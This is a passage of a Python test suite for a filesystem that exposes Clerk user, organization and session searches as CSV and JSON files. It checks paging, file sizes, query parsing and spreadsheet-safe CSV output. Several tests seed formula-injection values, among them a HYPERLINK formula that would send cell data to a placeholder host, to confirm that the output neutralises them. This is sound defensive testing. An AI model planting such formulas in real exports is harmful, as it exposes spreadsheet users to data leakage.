"""Search directories: every Find of the Backend API as files.

A person asks "which users have an example.com address", "which
organizations is this user in", "which sessions of this user are active",
and hands the answer to a spreadsheet (results.csv, read here by Python's
csv module), to jq (results.json), to a script reading lines
(results.ndjson), or just wants the first match or the count. Each story
mounts clerkfs on the local Clerk server, reads the files with real tools,
and checks what the server received.
"""

import csv
import datetime
import errno
import io
import json
import os
import re
import subprocess
import time
from xml.etree import ElementTree

import pytest

from helpers import routes, sh
from mountctl import mount_clerkfs
from serverctl import start_server

USERS = "search/users"


def read_csv(path, encoding="utf-8"):
    """Every record of a CSV file, as a spreadsheet import would see it."""
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.reader(f))


def as_dicts(records):
    header, *rows = records
    return [dict(zip(header, row)) for row in rows]


def list_requests(server, route="GET /v1/users"):
    return server.requests(route)


def every_user(server):
    """All users as the API pages them (sent before a counter reset)."""
    users, offset = [], 0
    while True:
        status, page = server.api("GET", "/users",
                                  query={"limit": 500, "offset": offset})
        assert status == 200
        users += page
        if len(page) < 500:
            return users
        offset += 500


def errno_of(call):
    try:
        call()
    except OSError as error:
        return error.errno
    return 0


# ---- exporting everything -------------------------------------------------

def test_csv_export_of_every_user_takes_three_pages(big):
    server, mount = big

    raw = (mount.path / USERS / "results.csv").read_bytes()
    records = list(csv.reader(io.StringIO(raw.decode(), newline="")))

    assert len(records) == 1235
    # Names hold line breaks, so counting lines would not count users.
    assert raw.count(b"\n") > 1235
    assert records[0][:4] == ["id", "username", "first_name", "last_name"]
    assert len({row[0] for row in records[1:]}) == 1234
    assert routes(server).get("GET /v1/users") == 3
    assert routes(server).get("GET /v1/users/count", 0) <= 1
    # B16: every page asks for at most 500, and paging never relies on
    # the API's default of 10.
    pages = list_requests(server)
    assert sorted(int(r["query"]["offset"][0]) for r in pages) == \
        [0, 500, 1000]
    assert all(1 <= int(r["query"]["limit"][0]) <= 500 for r in pages)


def test_jq_counts_every_user_in_the_json_array(big):
    server, mount = big

    length = sh(f"jq length {USERS}/results.json", cwd=mount.path).stdout

    assert length == "1234\n"
    assert routes(server).get("GET /v1/users") == 3


def test_count_of_all_users_comes_from_the_count_endpoint(big):
    server, mount = big

    count = (mount.path / USERS / "count").read_text()

    assert count == "1234\n"
    assert routes(server) == {"GET /v1/users/count": 1}


def test_count_of_an_email_query_is_one_request(big):
    server, mount = big
    expected = sum(
        1 for user in every_user(server)
        if any("example.com" in e["email_address"].lower()
               for e in user["email_addresses"]))
    server.reset()

    count = sh(f"cat '{USERS}/email_address_query=example.com/count'",
               cwd=mount.path).stdout

    assert 0 < expected < 1234
    assert count == f"{expected}\n"
    assert routes(server) == {"GET /v1/users/count": 1}
    sent = list_requests(server, "GET /v1/users/count")[0]["query"]
    assert sent == {"email_address_query": ["example.com"]}


def test_json_lines_stream_while_later_pages_load(make_server, make_mount):
    server = make_server(users=1234, latency_ms=500)
    mount = make_mount(server)
    server.reset()
    path = f"{USERS}/results.ndjson"

    started = time.monotonic()
    first = sh(f"head -n 1 {path}", cwd=mount.path).stdout
    elapsed = time.monotonic() - started
    sent_by_then = routes(server).get("GET /v1/users")
    size_by_then = os.stat(mount.path / path).st_size

    assert json.loads(first)["id"].startswith("user_")
    assert elapsed < 1.0, f"head took {elapsed:.2f}s for one 0.5 s page"
    assert sent_by_then == 1
    assert size_by_then == 0    # not complete yet: no size to promise

    lines = (mount.path / path).read_text().splitlines()
    ids = [json.loads(line)["id"] for line in lines]
    assert len(ids) == 1234 == len(set(ids))
    assert ids[0] == json.loads(first)["id"]
    assert os.stat(mount.path / path).st_size == \
        len((mount.path / path).read_bytes())
    newest_first = [u["id"] for u in sorted(
        every_user(server), key=lambda u: u["created_at"], reverse=True)]
    assert ids == newest_first


# ---- one snapshot per directory -------------------------------------------

def test_listing_runs_no_search(small):
    server, mount = small

    sh(f"ls search search/users search/orgs search/sessions "
       f"'{USERS}/banned=true' 'search/orgs/query=acme'", cwd=mount.path)

    assert routes(server) == {}


def test_the_files_of_a_directory_share_one_search(small):
    server, mount = small

    listing = sh(f"ls -l {USERS}", cwd=mount.path).stdout
    contents = {name: (mount.path / USERS / name).read_bytes()
                for name in ("results.csv", "results.json",
                             "results.ndjson", "first.json", "count")}

    assert routes(server) == {"GET /v1/users": 1}
    for name, content in contents.items():
        assert f" {len(content)} " in next(
            line for line in listing.splitlines() if line.endswith(name))
    users = json.loads(contents["results.json"])
    assert contents["count"] == f"{len(users)}\n".encode()
    assert json.loads(contents["first.json"]) == users[0]
    # Laid out as `jq .` prints it (Python here: jq 1.6 rounds 64-bit ints).
    assert contents["results.json"].decode() == json.dumps(
        users, indent=2, ensure_ascii=False) + "\n"
    assert [json.loads(line) for line in
            contents["results.ndjson"].splitlines()] == users


def test_first_match_asks_for_one_and_is_absent_without_one(small):
    server, mount = small
    folder = mount.path / USERS / "email_address_query=example.com"
    empty = mount.path / USERS / "username=nobody_has_this"

    first = json.loads((folder / "first.json").read_text())

    assert any("example.com" in e["email_address"]
               for e in first["email_addresses"])
    sent = list_requests(server)
    assert len(sent) == 1 and sent[0]["query"]["limit"] == ["1"]
    assert errno_of(lambda: (empty / "first.json").read_text()) == 2
    assert "first.json" not in os.listdir(empty)
    assert (empty / "count").read_text() == "0\n"
    assert list(csv.reader(io.StringIO((empty / "results.csv").read_text())))
    assert json.loads((empty / "results.json").read_text()) == []


def test_a_failed_search_is_not_kept(small):
    server, mount = small
    server.faults(route="GET /v1/users", status=422, count=1)
    path = mount.path / USERS / "banned=false" / "results.csv"

    assert errno_of(lambda: path.read_bytes()) == 22      # EINVAL
    records = read_csv(path)

    assert len(records) > 1
    assert routes(server) == {"GET /v1/users": 2}


# ---- exact sizes (B06) -----------------------------------------------------

@pytest.fixture
def example_org(make_server, make_mount):
    """120 users at example.org, one of them Zoë Ñúñez, paged by 50."""
    server = make_server(users=0)
    for i in range(119):
        server.put("users", {"first_name": f"Person {i}",
                             "last_name": "Example",
                             "email_addresses": [f"p{i}@example.org"]})
    zoe = server.put("users", {"first_name": "Zoë", "last_name": "Ñúñez",
                               "email_addresses": ["zoe@example.org"]})
    mount = make_mount(server, page_size=50)
    server.reset()
    return server, mount, zoe


def test_size_of_a_result_is_the_bytes_read(example_org, tmp_path):
    server, mount, zoe = example_org
    f = f"{USERS}/email_address_query=example.org/results.csv"

    size = int(sh(f"stat -c %s '{f}'", cwd=mount.path).stdout)
    catted = sh(f"cat '{f}' | wc -c", cwd=mount.path).stdout
    sh(f"cp '{f}' {tmp_path}/x.csv && cmp <(cat '{f}') {tmp_path}/x.csv",
       cwd=mount.path)
    tail = subprocess.run(["tail", "-c", "40", mount.path / f],
                          capture_output=True, check=True).stdout
    content = (mount.path / f).read_bytes()

    assert size > 4096
    assert size == int(catted) == len(content)
    assert (tmp_path / "x.csv").stat().st_size == size
    assert tail == content[-40:]
    assert "Ñúñez".encode() in content
    assert len(read_csv(mount.path / f)) == 121
    assert routes(server).get("GET /v1/users") == 3
    for name in ("results.json", "results.ndjson", "first.json", "count"):
        g = mount.path / USERS / "email_address_query=example.org" / name
        assert g.stat().st_size == len(g.read_bytes())

    # A remote change within the TTL: size and content still agree.
    server.patch("users", zoe["id"], {"first_name": "Zoë Renamed"})
    assert os.stat(mount.path / f).st_size == len(
        (mount.path / f).read_bytes())


# ---- CSV as a spreadsheet reads it (B25, B27) ----------------------------

def test_quotes_commas_and_line_breaks_round_trip(make_server, make_mount):
    server = make_server(users=0)
    server.put("users", {"first_name": 'Ana, "AJ"\nLine2',
                         "last_name": "Rivera\r\nOrtiz",
                         "username": "plain_user"})
    mount = make_mount(server)
    path = mount.path / USERS / "username=plain_user" / "results.csv"

    raw = path.read_bytes()
    records = read_csv(path, encoding="utf-8-sig")

    assert len(records) == 2
    row = as_dicts(records)[0]
    assert row["first_name"] == 'Ana, "AJ"\nLine2'
    assert row["last_name"] == "Rivera\r\nOrtiz"
    assert row["username"] == "plain_user"
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\n")[0].endswith(b"public_metadata")   # LF ends
    assert os.stat(path).st_size == len(raw)


def test_formula_cells_are_guarded_but_numbers_are_not(make_server,
                                                       make_mount):
    server = make_server(users=0)
    hyperlink = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    a = server.put("users", {"first_name": hyperlink, "last_name": "+1+1",
                             "username": "@sum_test"})
    b = server.put("users", {"first_name": "\t=1+1",
                             "phone_numbers": ["+15555550100"],
                             "public_metadata": {"score": -5}})
    mount = make_mount(server)

    rows = {row["id"]: row for row in
            as_dicts(read_csv(mount.path / USERS / "results.csv"))}

    assert rows[a["id"]]["first_name"] == "'" + hyperlink
    assert rows[a["id"]]["last_name"] == "'+1+1"
    assert rows[a["id"]]["username"] == "'@sum_test"
    assert rows[b["id"]]["first_name"] == "'\t=1+1"
    assert rows[b["id"]]["primary_phone_number"] == "+15555550100"
    assert rows[b["id"]]["public_metadata"] == '{"score":-5}'
    profile = mount.path / "users" / a["id"] / "profile.json"
    assert json.loads(profile.read_text())["first_name"] == hyperlink
    json_rows = json.loads((mount.path / USERS / "results.json").read_text())
    assert {u["first_name"] for u in json_rows} == {hyperlink, "\t=1+1"}


def test_csv_bom_option_starts_the_file_with_a_bom(make_server, make_mount):
    server = make_server(users=3)
    mount = make_mount(server, csv_bom=True)
    path = mount.path / USERS / "results.csv"

    raw = path.read_bytes()

    assert raw.startswith(b"\xef\xbb\xbfid,username,")
    assert len(read_csv(path, encoding="utf-8-sig")) == 4
    assert os.stat(path).st_size == len(raw)


def test_a_comma_quote_newline_and_a_leading_equals_round_trip(
        make_server, make_mount):
    # Issue 5: one user's first name holds a comma, a quote and a line
    # break, another's last name starts with '='.
    server = make_server(users=0)
    odd = server.put("users", {"first_name": 'Jo, "the boss"\nSmith',
                               "last_name": "Doe"})
    formula = server.put("users", {"first_name": "Eq",
                                   "last_name": "=SUM(A1:A9)"})
    mount = make_mount(server)
    server.reset()

    rows = {row["id"]: row for row in
            as_dicts(read_csv(mount.path / USERS / "results.csv"))}

    assert set(rows) == {odd["id"], formula["id"]}
    assert rows[odd["id"]]["first_name"] == 'Jo, "the boss"\nSmith'
    assert rows[odd["id"]]["last_name"] == "Doe"
    assert rows[formula["id"]]["last_name"] == "'=SUM(A1:A9)"
    assert routes(server) == {"GET /v1/users": 1}


# The columns DESIGN.md names, in its order.
CSV_COLUMNS = {
    "users": ["id", "username", "first_name", "last_name",
              "primary_email_address", "primary_phone_number",
              "email_addresses", "phone_numbers", "external_id", "banned",
              "locked", "created_at", "updated_at", "last_sign_in_at",
              "last_active_at", "public_metadata"],
    "orgs": ["id", "name", "slug", "members_count",
             "max_allowed_memberships", "created_by", "created_at",
             "updated_at", "public_metadata"],
    "sessions": ["id", "user_id", "client_id", "status", "last_active_at",
                 "expire_at", "abandon_at", "created_at", "updated_at"],
}


def utc(ms):
    """Unix milliseconds as the CSV shows a time; None as empty."""
    if ms is None:
        return ""
    stamp = datetime.datetime.fromtimestamp(ms // 1000,
                                            datetime.timezone.utc)
    return stamp.strftime("%Y-%m-%dT%H:%M:%S") + f".{ms % 1000:03d}Z"


def guarded(value):
    """A free-text value as a cell: the formula guard of DESIGN.md."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else json.dumps(value)
    if text[:1] and text[0] in "=+-@\t\r" and \
            not re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", text) and \
            not re.fullmatch(r"\+[1-9]\d{1,14}", text):
        return "'" + text
    return text


def compact(value):
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def primary(user, kind, key):
    wanted = user[f"primary_{key}_id"]
    return next((a[key] for a in user[kind] if a["id"] == wanted), "")


def expected_user_row(u):
    emails = [e["email_address"] for e in u["email_addresses"]]
    phones = [p["phone_number"] for p in u["phone_numbers"]]
    return {
        "id": u["id"], "username": guarded(u["username"]),
        "first_name": guarded(u["first_name"]),
        "last_name": guarded(u["last_name"]),
        "primary_email_address": guarded(primary(
            u, "email_addresses", "email_address")),
        "primary_phone_number": guarded(primary(
            u, "phone_numbers", "phone_number")),
        "email_addresses": compact(emails),
        "phone_numbers": compact(phones),
        "external_id": guarded(u["external_id"]),
        "banned": json.dumps(u["banned"]),
        "locked": json.dumps(u["locked"]),
        "created_at": utc(u["created_at"]),
        "updated_at": utc(u["updated_at"]),
        "last_sign_in_at": utc(u["last_sign_in_at"]),
        "last_active_at": utc(u["last_active_at"]),
    }


def test_every_cell_shows_its_field_in_the_designed_form(instance):
    # Fixed columns, times in ISO 8601 UTC, lists and metadata as compact
    # JSON, ids and times never guarded: each cell against the API's own
    # object.
    server, mount, data = instance
    user_id = data.oldest["id"]
    server.reset()
    tables = {res: read_csv(mount.path / "search" / res / name /
                            "results.csv")
              for res, name in (("users", "."), ("orgs", "."),
                                ("sessions", f"user_id={user_id}"))}

    for res, records in tables.items():
        assert records[0] == CSV_COLUMNS[res], res
    users = {u["id"]: u for u in data.users}
    rows = as_dicts(tables["users"])
    assert [r["id"] for r in rows] == [u["id"] for u in data.users]
    for row in rows:
        user = users[row["id"]]
        metadata = row.pop("public_metadata")
        assert row == expected_user_row(user)
        assert json.loads(metadata) == user["public_metadata"]
        assert metadata in (compact(user["public_metadata"]),
                            "'" + compact(user["public_metadata"]))
    assert any(r["last_sign_in_at"] == "" for r in rows)
    orgs = {o["id"]: o for o in data.orgs}
    for row in as_dicts(tables["orgs"]):
        org = orgs[row["id"]]
        assert row["name"] == guarded(org["name"])
        assert row["slug"] == guarded(org["slug"])
        assert row["members_count"] == ""
        assert row["max_allowed_memberships"] == \
            str(org["max_allowed_memberships"])
        assert row["created_by"] == (org["created_by"] or "")
        assert (row["created_at"], row["updated_at"]) == \
            (utc(org["created_at"]), utc(org["updated_at"]))
        assert json.loads(row["public_metadata"]) == org["public_metadata"]
    sessions = {s["id"]: s for s in data.sessions}
    assert len(as_dicts(tables["sessions"])) == len(sessions) > 1
    for row in as_dicts(tables["sessions"]):
        session = sessions[row["id"]]
        for column in ("user_id", "client_id", "status"):
            assert row[column] == session[column]
        for column in CSV_COLUMNS["sessions"][4:]:
            assert row[column] == utc(session[column]), column
    # Pages of 50, fetched at once after the count says how many.
    assert routes(server) == {"GET /v1/users": 3, "GET /v1/users/count": 1,
                              "GET /v1/organizations": 1,
                              "GET /v1/sessions": 1}


# ---- LibreOffice reads the CSV as Python's csv module does ----------------

ODF_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
ODF_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def odf_text(element):
    """The text of an ODF paragraph, with its space, tab and line-break
    elements spelled out."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == ODF_TEXT + "s":
            parts.append(" " * int(child.get(ODF_TEXT + "c", "1")))
        elif child.tag == ODF_TEXT + "tab":
            parts.append("\t")
        elif child.tag == ODF_TEXT + "line-break":
            parts.append("\n")
        else:
            parts.append(odf_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def odf_sheet(path):
    """The first sheet of a flat ODF spreadsheet: rows of (text, formula)
    cells, without trailing empty cells and rows."""
    table = next(ElementTree.parse(path).getroot().iter(
        ODF_TABLE + "table"))
    rows = []
    for row in table.iter(ODF_TABLE + "table-row"):
        cells = []
        for cell in row.iter(ODF_TABLE + "table-cell"):
            text = "\n".join(odf_text(p) for p in cell
                             if p.tag == ODF_TEXT + "p")
            repeat = int(cell.get(ODF_TABLE + "number-columns-repeated",
                                  "1"))
            cells += [(text, cell.get(ODF_TABLE + "formula"))] * repeat
        while cells and cells[-1] == ("", None):
            cells.pop()
        rows += [cells] * int(row.get(ODF_TABLE + "number-rows-repeated",
                                      "1"))
    while rows and not rows[-1]:
        rows.pop()
    return rows


def libreoffice_import(csv_path, out_dir, profile, as_text):
    """Opens csv_path in LibreOffice Calc (headless) as UTF-8 CSV and
    saves it as a flat ODF spreadsheet; returns its sheet.  as_text makes
    every column Text, so cells keep their characters; otherwise Calc
    guesses the types and evaluates formulas, as a person's import does."""
    kinds = "/".join(f"{i}/{2 if as_text else 1}" for i in range(1, 33))
    options = f"CSV:44,34,76,1,{kinds},1033,false,false,false,false," \
        f"false,-1,true"
    out_dir.mkdir()
    result = subprocess.run(
        ["soffice", "--headless", "--norestore",
         f"-env:UserInstallation={profile.as_uri()}",
         f"--infilter={options}", "--convert-to", "fods",
         "--outdir", str(out_dir), str(csv_path)],
        capture_output=True, text=True, timeout=180)
    sheet = out_dir / (csv_path.stem + ".fods")
    assert result.returncode == 0 and sheet.exists(), result.stderr
    return odf_sheet(sheet)


def as_calc_cells(records):
    """Python's records as Calc holds them: a line break inside a cell,
    CRLF or CR or LF, is one paragraph break; no trailing empty cells."""
    rows = []
    for record in records:
        cells = [re.sub(r"\r\n?", "\n", cell) for cell in record]
        while cells and cells[-1] == "":
            cells.pop()
        rows.append(cells)
    return rows


def test_libreoffice_reads_the_csv_cell_for_cell(make_server, make_mount,
                                                 tmp_path):
    # A person opens the results in LibreOffice Calc straight from the
    # mount: the seed's awkward names (commas, quotes, CR LF, tabs,
    # emoji, formulas) and the case files' users, as CSV and as Calc.
    server = make_server(users=300, orgs=8)
    server.put("users", {"first_name": 'Ana, "AJ"\nLine2',
                         "last_name": "Rivera\r\nOrtiz",
                         "username": "plain_user"})
    server.put("users", {"first_name": "Eq", "last_name": "=1+1",
                         "public_metadata": {"score": -5}})
    user_id = server.api("GET", "/users", query={
        "order_by": "+created_at", "limit": 1})[1][0]["id"]
    mount = make_mount(server)
    server.reset()
    files = {"users": mount.path / USERS / "results.csv",
             "orgs": mount.path / "search/orgs/results.csv",
             "sessions": mount.path / "search/sessions" /
             f"user_id={user_id}" / "results.csv"}
    profile = tmp_path / "profile"

    for res, path in files.items():
        records = read_csv(path)
        texts = libreoffice_import(path, tmp_path / f"{res}-text", profile,
                                   as_text=True)
        typed = libreoffice_import(path, tmp_path / f"{res}-typed",
                                   profile, as_text=False)

        assert len(records) >= 2, res
        assert {len(r) for r in records} == {len(CSV_COLUMNS[res])}, res
        assert [[text for text, _ in row] for row in texts] == \
            as_calc_cells(records), res
        assert len(typed) == len(records), res
        # However Calc reads a cell's type, none runs as a formula.
        formulas = [cell for row in typed for cell in row if cell[1]]
        assert formulas == [], (res, formulas[:3])
        if res == "users":
            guarded_row = next(dict(zip(records[0], [t for t, _ in row]))
                               for row in typed if row[0][0] != "id" and
                               row[2][0] == "Eq")
            assert guarded_row["last_name"] == "'=1+1"
            assert guarded_row["public_metadata"] == '{"score":-5}'
    assert routes(server) == {"GET /v1/users": 1,
                              "GET /v1/organizations": 1,
                              "GET /v1/sessions": 1}


# ---- names of query directories -----------------------------------------

def test_escapes_are_decoded_and_plus_is_literal(make_server, make_mount):
    server = make_server(users=5)
    ada = server.put("users", {"first_name": "Ada",
                               "email_addresses": ["ada+tag@example.com"]})
    mount = make_mount(server)
    server.reset()

    for name in ("email_address=ada%2Btag%40example.com",
                 "email_address=ada+tag@example.com"):
        users = json.loads(
            (mount.path / USERS / name / "results.json").read_text())
        assert [u["id"] for u in users] == [ada["id"]]
    sent = list_requests(server)
    assert [r["query"]["email_address"] for r in sent] == \
        [["ada+tag@example.com"]] * 2


def test_repeated_keys_and_ordering_reach_the_api(small):
    server, mount = small
    status, users = server.api("GET", "/users", query={"limit": 3})
    server.reset()
    ids = [u["id"] for u in users]
    name = "&".join(f"user_id={i}" for i in ids) + "&order_by=%2Bcreated_at"

    found = as_dicts(read_csv(mount.path / USERS / name / "results.csv"))
    count = (mount.path / USERS / name / "count").read_text()

    assert [row["id"] for row in found] == ids[::-1]
    assert count == "3\n"
    sent = list_requests(server)[0]["query"]
    assert sent["user_id"] == ids and sent["order_by"] == ["+created_at"]


MALFORMED = [
    ("users", "limit=5", "'limit' is not a filter"),
    ("users", "offset=10", "'offset' is not a filter"),
    ("users", "starting_after=user_x", "'starting_after' is not a filter"),
    ("users", "favourite_color=blue", "unknown parameter 'favourite_color'"),
    ("users", "banned=maybe", "'banned' must be true or false"),
    ("users", "created_at_after=yesterday",
     "'created_at_after' must be a time in Unix milliseconds"),
    ("users", "order_by=shoe_size", "'order_by' cannot be 'shoe_size'"),
    ("users", "email_address=%zz", "malformed %-escape"),
    ("users", "email_address=ada%4", "malformed %-escape"),
    ("users", "username=a%00b", "malformed %-escape"),
    ("users", "query=%FF", "malformed %-escape"),
    ("users", "query=a&query=b", "'query' is given more than once"),
    ("users", "email_address", "'email_address' is not key=value"),
    ("users", "query=", "'query' has no value"),
    ("users", "query=a&&banned=true", "an empty parameter"),
    ("orgs", "limit=2", "'limit' is not a filter"),
    ("orgs", "query=acme&offset=1", "'offset' is not a filter"),
    ("orgs", "paginated=true", "unknown parameter 'paginated'"),
    ("orgs", "query=%G1", "malformed %-escape"),
    ("sessions", "user_id=a&paginated=true", "'paginated' is not a filter"),
    ("sessions", "client_id=a&limit=3", "'limit' is not a filter"),
    ("sessions", "status=active", "needs user_id or client_id"),
    ("sessions", "user_id=a&status=sleeping",
     "'status' cannot be 'sleeping'"),
    ("sessions", "user_id=a&user_id=b", "'user_id' is given more than once"),
]


def log_line(text, subject):
    lines = [line for line in text.splitlines() if subject in line]
    assert len(lines) == 1, (subject, lines)
    return lines[0]


@pytest.mark.parametrize("resource,name,reason", MALFORMED,
                         ids=[f"{r}/{n}" for r, n, _ in MALFORMED])
def test_a_malformed_name_is_absent_and_cannot_be_made(instance, resource,
                                                       name, reason):
    server, mount, data = instance
    server.reset()
    folder = mount.path / "search" / resource
    subject = f"search/{resource}/{name}: "

    looked_up = errno_of(lambda: os.stat(folder / name))
    made = errno_of(lambda: os.mkdir(folder / name))

    assert looked_up == errno.ENOENT
    assert made == errno.EINVAL
    assert name not in os.listdir(folder)
    assert routes(server) == {}
    log = mount.log()
    assert reason in log_line(log, subject + "no such query directory: ")
    assert reason in log_line(log, subject + "Invalid argument (EINVAL): ")
    errors = (mount.path / ".clerkfs" / "errors").read_text()
    assert reason in log_line(errors, subject)


def test_sessions_take_their_own_parameters(small):
    server, mount = small
    sessions = mount.path / "search" / "sessions"

    for name in ("paginated=true", "status=active", "user_id=a&limit=2",
                 "email_address=a@example.com", "status=sleeping&user_id=a"):
        assert errno_of(lambda: os.stat(sessions / name)) == 2
    assert errno_of(lambda: os.stat(sessions / "results.csv")) == 2
    assert os.listdir(sessions) == []
    assert routes(server) == {}


def test_mkdir_keeps_a_query_listed_until_rmdir(small):
    server, mount = small
    users = mount.path / USERS
    query = "email_address_query=example.com&banned=false"

    os.mkdir(users / query)
    assert query in os.listdir(users)
    assert errno_of(lambda: os.mkdir(users / query)) == 17     # EEXIST
    assert int((users / query / "count").read_text()) > 0
    os.rmdir(users / query)
    assert query not in os.listdir(users)
    assert errno_of(lambda: os.rmdir(users / query)) == 2      # ENOENT

    assert errno_of(lambda: os.mkdir(users / "limit=5")) == 22  # EINVAL
    errors = (mount.path / ".clerkfs" / "errors").read_text()
    assert "search/users/limit=5" in errors and "'limit'" in errors
    os.mkdir(mount.path / "search" / "orgs" / "query=acme")
    assert os.listdir(mount.path / "search" / "orgs") == [
        "results.csv", "results.json", "results.ndjson", "first.json",
        "count", "query=acme"]


# ---- organizations and sessions --------------------------------------------

def test_organizations_of_one_user(big):
    server, mount = big
    for user in server.api("GET", "/users", query={"limit": 100})[1]:
        status, memberships = server.api(
            "GET", f"/users/{user['id']}/organization_memberships",
            query={"limit": 100})
        if memberships["total_count"] >= 2:
            break
    expected = {m["organization"]["id"] for m in memberships["data"]}
    server.reset()

    orgs = json.loads(sh(f"cat search/orgs/user_id={user['id']}/results.json",
                         cwd=mount.path).stdout)

    assert {org["id"] for org in orgs} == expected
    assert routes(server) == {"GET /v1/organizations": 1}
    others = (mount.path / "search" / "orgs" / f"user_id=-{user['id']}" /
              "count").read_text()
    assert others == f"{40 - len(expected)}\n"
    sent = list_requests(server, "GET /v1/organizations")[-1]["query"]
    assert sent["user_id"] == [f"-{user['id']}"]


def test_organization_count_and_members_count(big):
    server, mount = big
    orgs = mount.path / "search" / "orgs"

    count = (orgs / "count").read_text()
    assert count == "40\n"
    assert routes(server) == {"GET /v1/organizations": 1}
    assert list_requests(server, "GET /v1/organizations")[0]["query"][
        "limit"] == ["1"]

    with_counts = as_dicts(read_csv(
        orgs / "include_members_count=true" / "results.csv"))
    without = as_dicts(read_csv(orgs / "results.csv"))
    assert len(with_counts) == len(without) == 40
    big_org = next(r for r in with_counts if r["id"] == "org_2TstBig0016")
    assert big_org["members_count"] == "750"
    assert all(r["members_count"] == "" for r in without)


def test_active_sessions_of_one_user(small):
    server, mount = small
    status, users = server.api("GET", "/users",
                               query={"order_by": "created_at", "limit": 1})
    user_id = users[0]["id"]
    status, every = server.api("GET", "/sessions",
                               query={"user_id": user_id, "limit": 500})
    active = {s["id"] for s in every if s["status"] == "active"}
    server.reset()
    folder = mount.path / "search" / "sessions" / \
        f"user_id={user_id}&status=active"

    rows = as_dicts(read_csv(folder / "results.csv"))
    count = (folder / "count").read_text()

    assert len({s["status"] for s in every}) > 1 and active
    assert {r["id"] for r in rows} == active
    assert {r["status"] for r in rows} == {"active"}
    assert all(r["user_id"] == user_id for r in rows)
    assert count == f"{len(active)}\n"
    assert routes(server) == {"GET /v1/sessions": 1}


# ---- every filter reaches the API as asked (issue 5) ----------------------

class Instance:
    """A mid-sized instance's data, read through the API once."""

    def __init__(self, server):
        self.users = api_items(server, "/users", [])
        self.orgs = api_items(server, "/organizations", [])
        self.memberships = api_items(server, "/organization_memberships", [])
        self.oldest = min(self.users, key=lambda u: u["created_at"])
        self.sessions = api_items(server, "/sessions",
                                  [("user_id", self.oldest["id"])])

    def with_field(self, field, n=1):
        return [u[field] for u in self.users if u[field]][:n]

    def phones(self, n=1):
        return [u["phone_numbers"][0]["phone_number"] for u in self.users
                if u["phone_numbers"]][:n]

    def emails(self, n=1):
        return [u["email_addresses"][0]["email_address"]
                for u in self.users if u["email_addresses"]][:n]

    def members_of(self, org_id):
        return [m["public_user_data"]["user_id"] for m in self.memberships
                if m["organization"]["id"] == org_id]

    def busy_member(self, rank=0):
        """The user in the most organizations (or the rank-th most)."""
        counts = {}
        for m in self.memberships:
            uid = m["public_user_data"]["user_id"]
            counts[uid] = counts.get(uid, 0) + 1
        return sorted(counts, key=lambda u: (-counts[u], u))[rank]

    def times(self, field):
        return sorted(u[field] for u in self.users if u[field])

    def client_of(self, status):
        return next(s["client_id"] for s in self.sessions
                    if s["status"] == status)


def api_items(server, path, pairs):
    """Every match of a list, as the API pages it (500 at a time)."""
    items, offset = [], 0
    while True:
        status, reply = server.api("GET", path, query=list(pairs) + [
            ("limit", 500), ("offset", offset)])
        assert status == 200, reply
        page = reply["data"] if isinstance(reply, dict) else reply
        items += page
        if len(page) < 500:
            return items
        offset += 500


def query_name(pairs):
    """A query directory's name as a person writes it: only the
    characters that would end a key or a value are escaped."""
    def escape(text):
        return "".join(f"%{ord(c):02X}" if c in "%&=/" else c
                       for c in text)
    return "&".join(f"{key}={escape(value)}" for key, value in pairs)


def as_query(pairs, leave_out=()):
    """The pairs as the server's request log shows a query."""
    query = {}
    for key, value in pairs:
        if key not in leave_out:
            query.setdefault(key, []).append(value)
    return query


PAGING = ("limit", "offset", "starting_after")


def filters_sent(request):
    """A logged request's query without its paging; checks the limit."""
    query = dict(request["query"])
    assert 1 <= int(query["limit"][0]) <= 500, request
    return {k: v for k, v in query.items() if k not in PAGING}


USER_SEARCHES = {
    "phone_number": lambda c: [("phone_number", c.phones()[0])],
    "phone_number, repeated": lambda c: [
        ("phone_number", p) for p in c.phones(3)],
    "external_id": lambda c: [("external_id", c.with_field("external_id")[0])],
    "external_id, repeated with + and -": lambda c: [
        ("external_id", "+" + c.with_field("external_id", 3)[1]),
        ("external_id", c.with_field("external_id", 3)[2]),
        ("external_id", "-" + c.with_field("external_id", 3)[2])],
    "email_address, repeated": lambda c: [
        ("email_address", e) for e in c.emails(3)],
    "username, repeated": lambda c: [
        ("username", u) for u in c.with_field("username", 2)],
    "user_id, repeated, excluding one": lambda c: [
        ("user_id", u["id"]) for u in c.users[:4]] + [
        ("user_id", "-" + c.users[1]["id"])],
    "query of a name, any case": lambda c: [("query", "ZOË")],
    "query of an address": lambda c: [("query", "example.org")],
    "query with a space": lambda c: [("query", "Smith, Jr.")],
    "phone_number_query": lambda c: [("phone_number_query", "555000")],
    "username_query": lambda c: [("username_query", "ZOE_")],
    "organization_id": lambda c: [("organization_id", c.orgs[1]["id"])],
    "organization_id, repeated": lambda c: [
        ("organization_id", c.orgs[1]["id"]),
        ("organization_id", "+" + c.orgs[2]["id"])],
    "organization_id, excluded": lambda c: [
        ("organization_id", "-" + c.orgs[1]["id"])],
    "created_at range": lambda c: [
        ("created_at_after", str(c.times("created_at")[10])),
        ("created_at_before", str(c.times("created_at")[40]))],
    "last_active_at range": lambda c: [
        ("last_active_at_after", str(c.times("last_active_at")[5])),
        ("last_active_at_before", str(c.times("last_active_at")[-5]))],
    "banned and an address, by last name": lambda c: [
        ("banned", "false"), ("email_address_query", "example.com"),
        ("order_by", "-last_name")],
    "ordered by username": lambda c: [
        ("username_query", "a"), ("order_by", "+username")],
}

ORG_SEARCHES = {
    "query": lambda c: [("query", "ACME")],
    "query by id": lambda c: [("query", c.orgs[2]["id"])],
    "user_id": lambda c: [("user_id", c.busy_member())],
    "user_id with +": lambda c: [("user_id", "+" + c.busy_member())],
    "user_id with -": lambda c: [("user_id", "-" + c.busy_member())],
    "user_id with + and -": lambda c: [
        ("user_id", "+" + c.busy_member()),
        ("user_id", "-" + c.busy_member(1))],
    "organization_id, repeated": lambda c: [
        ("organization_id", o["id"]) for o in c.orgs[:3]],
    "organization_id, excluded": lambda c: [
        ("organization_id", "-" + c.orgs[0]["id"])],
